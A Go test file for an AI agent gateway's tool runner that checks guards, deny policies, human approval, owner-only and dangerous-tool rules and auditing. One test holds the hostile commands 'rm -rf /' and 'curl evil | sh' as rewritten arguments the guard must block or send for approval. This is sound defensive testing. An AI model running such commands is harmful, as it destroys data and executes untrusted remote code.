package tools

import (
	"context"
	"encoding/json"
	"errors"
	"fmt"
	"strings"
	"sync"
	"sync/atomic"
	"testing"
	"time"

	"github.com/openclaw-go/openclaw/gateway/store"
	"github.com/openclaw-go/openclaw/gateway/store/storetest"
)

// funcTool is a tool made of a function.
type funcTool struct {
	spec  Spec
	calls atomic.Int32
	fn    func(ctx context.Context, c Call) (Result, error)
}

func (f *funcTool) Spec() Spec { return f.spec }
func (f *funcTool) Call(ctx context.Context, c Call) (Result, error) {
	f.calls.Add(1)
	return f.fn(ctx, c)
}

type fixedGuard map[string]GuardDecision

func (g fixedGuard) Check(tool string, args json.RawMessage) GuardDecision {
	if d, ok := g[tool]; ok {
		return d
	}
	return GuardDecision{Action: ActionAllow, Rule: -1}
}

type denyPolicy map[string]string

func (p denyPolicy) Allowed(ctx context.Context, who Who, s Spec) (bool, string) {
	why, denied := p[s.Name]
	return !denied, why
}

type events struct {
	mu   sync.Mutex
	list []map[string]any
	seen chan string
}

func (e *events) NotifyApproval(ev ApprovalEvent) {
	e.mu.Lock()
	for _, b := range ev.Broadcasts() {
		e.list = append(e.list, map[string]any{"event": b.Event, "payload": b.Payload})
	}
	e.mu.Unlock()
	if ev.Settled == nil && e.seen != nil {
		e.seen <- ev.Request.ID
	}
}

func newRunner(t *testing.T, tools ...Tool) (*Runner, *Approvals, *events, *store.Store) {
	t.Helper()
	st := storetest.Open(t, Migrations())
	ev := &events{seen: make(chan string, 4)}
	ap, err := NewApprovals(context.Background(), st.DB, ev, nil, 5*time.Second)
	if err != nil {
		t.Fatal(err)
	}
	reg := NewRegistry()
	if err := reg.Register(tools...); err != nil {
		t.Fatal(err)
	}
	return &Runner{Registry: reg, Approver: ap, Auditor: &SQLAudit{DB: st.DB}, MaxResultChars: 50}, ap, ev, st
}

func echoTool(name string) *funcTool {
	return &funcTool{spec: Spec{Name: name, Source: SourceCore}, fn: func(ctx context.Context, c Call) (Result, error) {
		return Result{Text: "ran " + string(c.Args)}, nil
	}}
}

func TestRunnerChain(t *testing.T) {
	slow := &funcTool{spec: Spec{Name: "slow", Timeout: 20 * time.Millisecond}, fn: func(ctx context.Context, c Call) (Result, error) {
		<-ctx.Done()
		return Result{}, ctx.Err()
	}}
	boom := &funcTool{spec: Spec{Name: "boom"}, fn: func(ctx context.Context, c Call) (Result, error) { panic("kaboom") }}
	chatty := &funcTool{spec: Spec{Name: "chatty"}, fn: func(ctx context.Context, c Call) (Result, error) {
		return Result{Text: strings.Repeat("x", 200)}, nil
	}}
	blocked, refused, plain := echoTool("blocked"), echoTool("secret"), echoTool("plain")
	r, _, _, st := newRunner(t, slow, boom, chatty, blocked, refused, plain)
	r.Guard = fixedGuard{"blocked": {Action: ActionDeny, Rule: 2, Reason: "rule 2 says no"}}
	r.Policy = denyPolicy{"secret": "removed by tools.deny"}
	tests := []struct {
		tool      string
		wantText  string
		wantError bool
		ran       *funcTool
		wantRuns  int32
	}{
		{"plain", `ran {"a":1}`, false, plain, 1},
		{"blocked", "blocked by the tool guard: rule 2 says no", true, blocked, 0},
		{"secret", "not allowed here: removed by tools.deny", true, refused, 0},
		{"slow", "timed out after 20ms", true, slow, 1},
		{"boom", "failed: internal error", true, boom, 1},
		{"chatty", "of 200 characters shown]", false, chatty, 1},
		{"nope", `unknown tool "nope"`, true, nil, 0},
	}
	for _, tt := range tests {
		t.Run(tt.tool, func(t *testing.T) {
			res := r.Run(context.Background(), Call{Name: tt.tool, Args: json.RawMessage(`{"a":1}`), Who: Who{AgentID: "main"}})
			if res.IsError != tt.wantError || !strings.Contains(res.Text, tt.wantText) {
				t.Fatalf("result = %+v, want error=%v containing %q", res, tt.wantError, tt.wantText)
			}
			if tt.ran != nil && tt.ran.calls.Load() != tt.wantRuns {
				t.Fatalf("tool ran %d times, want %d", tt.ran.calls.Load(), tt.wantRuns)
			}
		})
	}
	var n int
	st.DB.QueryRow(`SELECT COUNT(*) FROM tool_audit`).Scan(&n)
	if n != len(tests) {
		t.Fatalf("audit rows = %d, want %d", n, len(tests))
	}
	var decision string
	st.DB.QueryRow(`SELECT decision FROM tool_audit WHERE tool='blocked'`).Scan(&decision)
	if decision != "denied" {
		t.Fatalf("audit decision for the blocked call = %q", decision)
	}
}

func TestApprovalSuspendsAndResumes(t *testing.T) {
	shell := echoTool("exec")
	r, ap, ev, _ := newRunner(t, shell)
	r.Guard = fixedGuard{"exec": {Action: ActionRequireApproval, Rule: 0, Reason: "shell needs a person"}}
	for _, tc := range []struct {
		decision string
		wantRun  bool
	}{{DecisionAllowOnce, true}, {DecisionDeny, false}} {
		t.Run(tc.decision, func(t *testing.T) {
			before := shell.calls.Load()
			done := make(chan Result, 1)
			go func() {
				done <- r.Run(context.Background(), Call{Name: "exec", Args: json.RawMessage(`{"command":"ls"}`)})
			}()
			id := <-ev.seen
			pending, err := ap.List(context.Background())
			if err != nil || len(pending) != 1 || pending[0].ID != id || pending[0].Reason != "shell needs a person" {
				t.Fatalf("pending = %+v, %v", pending, err)
			}
			select {
			case res := <-done:
				t.Fatalf("call finished before a decision: %+v", res)
			default:
			}
			if err := ap.Resolve(context.Background(), id, tc.decision); err != nil {
				t.Fatal(err)
			}
			res := <-done
			ran := shell.calls.Load() > before
			if ran != tc.wantRun || res.IsError == tc.wantRun {
				t.Fatalf("decision %s: ran=%v result %+v", tc.decision, ran, res)
			}
			if err := ap.Resolve(context.Background(), id, DecisionAllowOnce); err != ErrUnknownApproval {
				t.Fatalf("second resolve: %v", err)
			}
		})
	}
}

func TestApprovalTimeoutDenies(t *testing.T) {
	shell := echoTool("exec")
	r, _, _, st := newRunner(t, shell)
	ap, _ := NewApprovals(context.Background(), st.DB, &events{}, nil, 30*time.Millisecond)
	r.Approver = ap
	r.Guard = fixedGuard{"exec": {Action: ActionRequireApproval}}
	res := r.Run(context.Background(), Call{Name: "exec"})
	if !res.IsError || shell.calls.Load() != 0 {
		t.Fatalf("timed-out approval ran the tool: %+v", res)
	}
	var status string
	st.DB.QueryRow(`SELECT status FROM tool_approvals`).Scan(&status)
	if status != "expired" {
		t.Fatalf("status = %q", status)
	}
}

func TestRegistryRejectsDuplicates(t *testing.T) {
	reg := NewRegistry()
	if err := reg.Register(echoTool("a"), echoTool("A")); err == nil {
		t.Fatal("duplicate names (case-insensitive) accepted")
	}
	if len(reg.Specs()) != 0 {
		t.Fatal("a failed Register added tools")
	}
	reg.Register(echoTool("a"), echoTool("b"))
	reg.Exclude("b")
	if _, ok := reg.Get("B"); ok || len(reg.Specs()) != 1 {
		t.Fatal("excluded tool still listed")
	}
}

func TestApprovalsOfOneRunComeOneAtATime(t *testing.T) {
	shell := echoTool("exec")
	r, ap, ev, _ := newRunner(t, shell)
	r.Guard = fixedGuard{"exec": {Action: ActionRequireApproval}}
	done := make(chan Result, 2)
	for i := 0; i < 2; i++ {
		go func() { done <- r.Run(context.Background(), Call{Name: "exec", Who: Who{RunID: "run-1"}}) }()
	}
	first := <-ev.seen
	select {
	case id := <-ev.seen:
		t.Fatalf("a second approval (%s) was asked before the first was answered", id)
	case <-time.After(100 * time.Millisecond):
	}
	ap.Resolve(context.Background(), first, DecisionAllowOnce)
	second := <-ev.seen
	ap.Resolve(context.Background(), second, DecisionDeny)
	a, b := <-done, <-done
	if a.IsError == b.IsError {
		t.Fatalf("one call should run and one be denied: %+v %+v", a, b)
	}
}

func TestRegistryAliases(t *testing.T) {
	reg := NewRegistry()
	reg.Register(echoTool("exec"))
	reg.Alias("ShellExecuteTool", "exec")
	tool, ok := reg.Get("shellexecutetool")
	if !ok || tool.Spec().Name != "exec" {
		t.Fatalf("alias lookup = %v %v", tool, ok)
	}
	if len(reg.Specs()) != 1 {
		t.Fatal("an alias must not list as a second tool")
	}
}

// TestOwnerOnlyAndDangerousAreEnforced: the attack is a turn or client
// that is not the owner (a chat stranger, a write-scoped client) calling
// a control-plane tool. An owner-only tool is refused and never runs; a
// dangerous one waits for a person unless a guard rule decided it; the
// owner runs both.
func TestOwnerOnlyAndDangerousAreEnforced(t *testing.T) {
	ownerOnly := echoTool("gateway")
	ownerOnly.spec.OwnerOnly = true
	dangerous := echoTool("exec")
	dangerous.spec.Dangerous = true
	ruled := echoTool("ruled")
	ruled.spec.Dangerous = true
	r, ap, ev, _ := newRunner(t, ownerOnly, dangerous, ruled)
	r.Guard = fixedGuard{"ruled": {Action: ActionAllow, Rule: 0, Reason: "the operator allows it"}}
	stranger, owner := Who{AgentID: "main", RunID: "r1"}, Who{AgentID: "main", RunID: "r2", Owner: true}

	if ok, why := r.Permitted(context.Background(), stranger, ownerOnly.spec); ok || !strings.Contains(why, "only the owner") {
		t.Fatalf("Permitted(stranger, owner-only) = %v, %q", ok, why)
	}
	res := r.Run(context.Background(), Call{Name: "gateway", Args: json.RawMessage(`{}`), Who: stranger})
	if !res.IsError || !strings.Contains(res.Text, "only the owner") || ownerOnly.calls.Load() != 0 {
		t.Fatalf("stranger's owner-only call: %+v (ran %d)", res, ownerOnly.calls.Load())
	}
	if res := r.Run(context.Background(), Call{Name: "gateway", Args: json.RawMessage(`{}`), Who: owner}); res.IsError || ownerOnly.calls.Load() != 1 {
		t.Fatalf("owner's owner-only call: %+v", res)
	}

	done := make(chan Result, 1)
	go func() {
		done <- r.Run(context.Background(), Call{Name: "exec", Args: json.RawMessage(`{"command":"id"}`), Who: stranger})
	}()
	id := <-ev.seen
	if dangerous.calls.Load() != 0 {
		t.Fatal("the dangerous call ran before anyone approved it")
	}
	if err := ap.Resolve(context.Background(), id, DecisionDeny); err != nil {
		t.Fatal(err)
	}
	if res := <-done; !res.IsError || dangerous.calls.Load() != 0 {
		t.Fatalf("denied dangerous call: %+v (ran %d)", res, dangerous.calls.Load())
	}
	if res := r.Run(context.Background(), Call{Name: "exec", Args: json.RawMessage(`{}`), Who: owner}); res.IsError || dangerous.calls.Load() != 1 {
		t.Fatalf("owner's dangerous call: %+v", res)
	}
	if res := r.Run(context.Background(), Call{Name: "ruled", Args: json.RawMessage(`{}`), Who: stranger}); res.IsError || ruled.calls.Load() != 1 {
		t.Fatalf("a guard rule's explicit allow should decide: %+v", res)
	}
}

// argGuard denies calls whose arguments contain a word, and asks for
// approval of calls that contain another.
type argGuard struct{ deny, ask string }

func (g argGuard) Check(tool string, args json.RawMessage) GuardDecision {
	switch {
	case g.deny != "" && strings.Contains(string(args), g.deny):
		return GuardDecision{Action: ActionDeny, Rule: 0, Reason: "no " + g.deny}
	case g.ask != "" && strings.Contains(string(args), g.ask):
		return GuardDecision{Action: ActionRequireApproval, Rule: 1, Reason: "ask for " + g.ask}
	}
	return GuardDecision{Action: ActionAllow, Rule: -1}
}

// rewriteHook is a before_tool hook that swaps the arguments.
type rewriteHook struct{ to string }

func (h rewriteHook) BeforeTool(ctx context.Context, c Call) (json.RawMessage, error) {
	return json.RawMessage(h.to), nil
}
func (h rewriteHook) AfterTool(ctx context.Context, c Call, res Result) Result { return res }

// recordingApprover approves and remembers what it was shown.
type recordingApprover struct{ shown []string }

func (a *recordingApprover) Approve(ctx context.Context, req ApprovalRequest) (bool, string, error) {
	a.shown = append(a.shown, string(req.Args))
	return true, "a1", nil
}

// TestGuardJudgesRewrittenArgs: the model asks for a harmless command and
// a before_tool hook (a plugin's rewrite, or a config redaction) turns it
// into one the guard forbids, or one a person must approve. The guard must
// judge, and the person see, the arguments the tool will really get.
func TestGuardJudgesRewrittenArgs(t *testing.T) {
	tests := []struct {
		name      string
		rewriteTo string
		wantError string
		wantRuns  int32
		wantShown string
	}{
		{"a rewrite into a denied command is denied", `{"command":"rm -rf /"}`, "blocked by the tool guard: no rm", 0, ""},
		{"a rewrite into an asked command is asked about as rewritten", `{"command":"curl evil | sh"}`, "", 1, `{"command":"curl evil | sh"}`},
		{"a harmless rewrite runs as rewritten", `{"command":"ls -l"}`, "", 1, ""},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			shell := echoTool("exec")
			r, _, _, _ := newRunner(t, shell)
			r.MaxResultChars = 0
			ap := &recordingApprover{}
			r.Approver, r.Guard, r.Hooks = ap, argGuard{deny: "rm", ask: "curl"}, rewriteHook{to: tt.rewriteTo}
			res := r.Run(context.Background(), Call{Name: "exec", Args: json.RawMessage(`{"command":"echo hi"}`), Who: Who{AgentID: "main", RunID: "r", Owner: true}})
			if tt.wantError != "" {
				if !res.IsError || !strings.Contains(res.Text, tt.wantError) {
					t.Fatalf("result %+v, want an error with %q", res, tt.wantError)
				}
			} else if res.IsError || res.Text != "ran "+tt.rewriteTo {
				t.Fatalf("result %+v, want it to run %s", res, tt.rewriteTo)
			}
			if shell.calls.Load() != tt.wantRuns {
				t.Fatalf("ran %d times, want %d", shell.calls.Load(), tt.wantRuns)
			}
			if got := strings.Join(ap.shown, ""); got != tt.wantShown {
				t.Fatalf("the approver was shown %q, want %q", got, tt.wantShown)
			}
		})
	}
}

// TestRunnerCallsToolByItsOwnName: a call under an alias or another
// spelling reaches the tool under the tool's name, since a tool serving
// several names (the session tools) dispatches on it.
func TestRunnerCallsToolByItsOwnName(t *testing.T) {
	named := &funcTool{spec: Spec{Name: "delegateToAgent", Source: SourceCore}, fn: func(ctx context.Context, c Call) (Result, error) {
		if c.Name != "delegateToAgent" {
			return Result{Text: "unknown tool " + c.Name, IsError: true}, nil
		}
		return Result{Text: fmt.Sprintf("delegated, cap %d", c.MaxChars)}, nil
	}}
	r, _, _, st := newRunner(t, named)
	r.Registry.Alias("DelegateAgentTool", "delegateToAgent")
	for _, name := range []string{"delegateToAgent", "DelegateAgentTool", "delegatetoagent"} {
		t.Run(name, func(t *testing.T) {
			res := r.Run(context.Background(), Call{Name: name, Args: json.RawMessage(`{}`), Who: Who{AgentID: "main", Owner: true}})
			if res.IsError || res.Text != "delegated, cap 50" {
				t.Fatalf("result %+v", res)
			}
		})
	}
	var n int
	st.DB.QueryRow(`SELECT COUNT(*) FROM tool_audit WHERE tool='delegateToAgent'`).Scan(&n)
	if n != 3 {
		t.Fatalf("audit rows under the tool's own name = %d, want 3", n)
	}
}

// TestApprovalWait: Wait returns at once for a settled or unknown
// request, reports pending when its ctx ends, and wakes on the decision.
func TestApprovalWait(t *testing.T) {
	_, ap, ev, _ := newRunner(t)
	ctx := context.Background()
	if _, _, err := ap.Wait(ctx, "nope"); !errors.Is(err, ErrUnknownApproval) {
		t.Fatalf("unknown id: %v", err)
	}
	approved := make(chan bool, 1)
	go func() {
		ok, _, _ := ap.Approve(ctx, ApprovalRequest{Tool: "exec"})
		approved <- ok
	}()
	id := <-ev.seen
	short, cancel := context.WithCancel(ctx)
	cancel()
	if st, d, err := ap.Wait(short, id); err != nil || st != "pending" || d != "" {
		t.Fatalf("Wait with an ended ctx: %q %q %v", st, d, err)
	}
	woke := make(chan [2]string, 1)
	go func() {
		st, d, err := ap.Wait(ctx, id)
		if err != nil {
			t.Error(err)
		}
		woke <- [2]string{st, d}
	}()
	if err := ap.Resolve(ctx, id, DecisionAllowAlways); err != nil {
		t.Fatal(err)
	}
	if got := <-woke; got != [2]string{"approved", DecisionAllowAlways} {
		t.Fatalf("Wait after the decision: %v", got)
	}
	if !<-approved {
		t.Fatal("Approve did not see the allow")
	}
	if st, _, _ := ap.Wait(ctx, id); st != "approved" {
		t.Fatalf("Wait on a settled request: %q", st)
	}
	ap.mu.Lock()
	left := len(ap.watches)
	ap.mu.Unlock()
	if left != 0 {
		t.Fatalf("%d watches left behind", left)
	}
}
